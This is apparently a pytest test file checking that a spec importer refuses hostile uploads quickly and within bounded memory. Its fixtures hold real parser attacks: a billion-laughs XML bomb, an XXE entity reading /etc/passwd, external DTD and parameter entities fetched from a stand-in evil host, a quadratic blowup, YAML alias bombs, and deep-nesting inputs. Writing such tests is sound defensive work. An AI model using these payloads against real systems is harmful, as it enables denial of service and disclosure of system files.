"""Hostile inputs are refused fast, with bounded memory: XML bombs, external entities, YAML
alias bombs, recursive aliases, deep nesting, fake SQLite files."""

from __future__ import annotations

import time
import tracemalloc

import pytest

from designer.importers import SpecError, import_file

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edmx:Edmx Version="1.0" xmlns:edmx="http://schemas.microsoft.com/ado/2007/06/edmx">
<edmx:DataServices><Schema Namespace="X"><EntityType Name="&lol9;"/></Schema></edmx:DataServices>
</edmx:Edmx>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<edmx:Edmx Version="1.0" xmlns:edmx="http://schemas.microsoft.com/ado/2007/06/edmx">
<edmx:DataServices><Schema Namespace="X"><EntityType Name="&xxe;"/></Schema></edmx:DataServices>
</edmx:Edmx>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edmx SYSTEM "http://evil.example.com/x.dtd">
<edmx:Edmx Version="1.0" xmlns:edmx="http://schemas.microsoft.com/ado/2007/06/edmx"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example.com/p.dtd"> %remote;]>
<data/>
"""

#: One 100 kB entity referenced 50,000 times: 5 GB once expanded (needs no nesting).
QUADRATIC_BLOWUP = (b'<?xml version="1.0"?>\n<!DOCTYPE k [<!ENTITY a "' + b"A" * 100_000 +
                    b'">]>\n<edmx:Edmx Version="4.0" xmlns:edmx="http://docs.oasis-open.org/'
                    b'odata/ns/edmx">' + b"&a;" * 50_000 + b"</edmx:Edmx>\n")


def _bounded(kind: str, path) -> SpecError:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(SpecError) as info:
            import_file(kind, path)
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert time.perf_counter() - started < 5.0          # generous: CI machines are busy
    assert peak < 20 * 1024 * 1024, f"peak memory {peak:,} bytes"
    return info.value


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD,
                                     PARAMETER_ENTITY, QUADRATIC_BLOWUP])
def test_xml_dtds_and_entities_are_refused_fast(tmp_path, content: bytes) -> None:
    path = tmp_path / "$metadata.xml"
    path.write_bytes(content)
    error = _bounded("odata", path)
    assert "refused" in error.message
    assert error.location == "2"                     # the DOCTYPE line
    assert str(error).startswith(f"{path}:2: ")


def test_yaml_alias_bomb_is_refused_fast(tmp_path) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    path = tmp_path / "bomb.yaml"
    path.write_text("openapi: 3.0.0\n" + "\n".join(lines) + "\n")
    error = _bounded("openapi", path)
    assert "alias" in error.message


def test_many_aliases_are_refused(tmp_path, monkeypatch) -> None:
    import designer.importers.structured as structured

    monkeypatch.setattr(structured, "MAX_ALIASES", 1000)
    body = "openapi: 3.0.0\nbase: &b {type: string}\nitems:\n" + \
        "".join("  - *b\n" for _ in range(1500))
    path = tmp_path / "aliases.yaml"
    path.write_text(body)
    assert "aliases" in _bounded("openapi", path).message


def test_recursive_yaml_alias_is_refused(tmp_path) -> None:
    path = tmp_path / "loop.yaml"
    path.write_text("openapi: 3.0.0\nx: &x [*x]\n")
    assert "refers to itself" in _bounded("openapi", path).message


@pytest.mark.parametrize("kind, content", [
    ("openapi", b"[" * 100_000 + b"]" * 100_000),
    ("openapi", b"openapi: 3.0.0\nx: " + b"[" * 50_000 + b"]" * 50_000 + b"\n"),
    ("json", b"[" * 100_000 + b"]" * 100_000),
    ("odata", b"<a>" * 50_000 + b"</a>" * 50_000),
], ids=["json-spec", "yaml-spec", "json-sample", "xml"])
def test_deep_nesting_is_refused(tmp_path, kind: str, content: bytes) -> None:
    path = tmp_path / "deep.data"
    path.write_bytes(content)
    error = _bounded(kind, path)
    assert error.message


def test_not_a_sqlite_database(tmp_path) -> None:
    path = tmp_path / "fake.db"
    path.write_bytes(b"SQLite format 3\x00" + b"\x00" * 80 + b"garbage" * 100)
    assert "database" in _bounded("sqlite", path).message
    path.write_text("id,name\n1,x\n")
    assert "not a SQLite" in _bounded("sqlite", path).message


def test_unknown_kind() -> None:
    with pytest.raises(SpecError, match="unknown import kind"):
        import_file("wsdl", "x.wsdl")


@pytest.mark.parametrize("kind", ["openapi", "odata", "csv", "json", "sqlite"])
def test_binary_garbage_is_refused_with_the_file_named(tmp_path, kind: str) -> None:
    import random

    path = tmp_path / f"upload.{kind}"
    rng = random.Random(4)
    path.write_bytes(bytes(rng.getrandbits(8) for _ in range(200_000)))
    error = _bounded(kind, path)
    assert error.file == str(path) and str(error).startswith(str(path))
    assert any(word in error.message for word in ("binary", "not well-formed", "not a SQLite"))
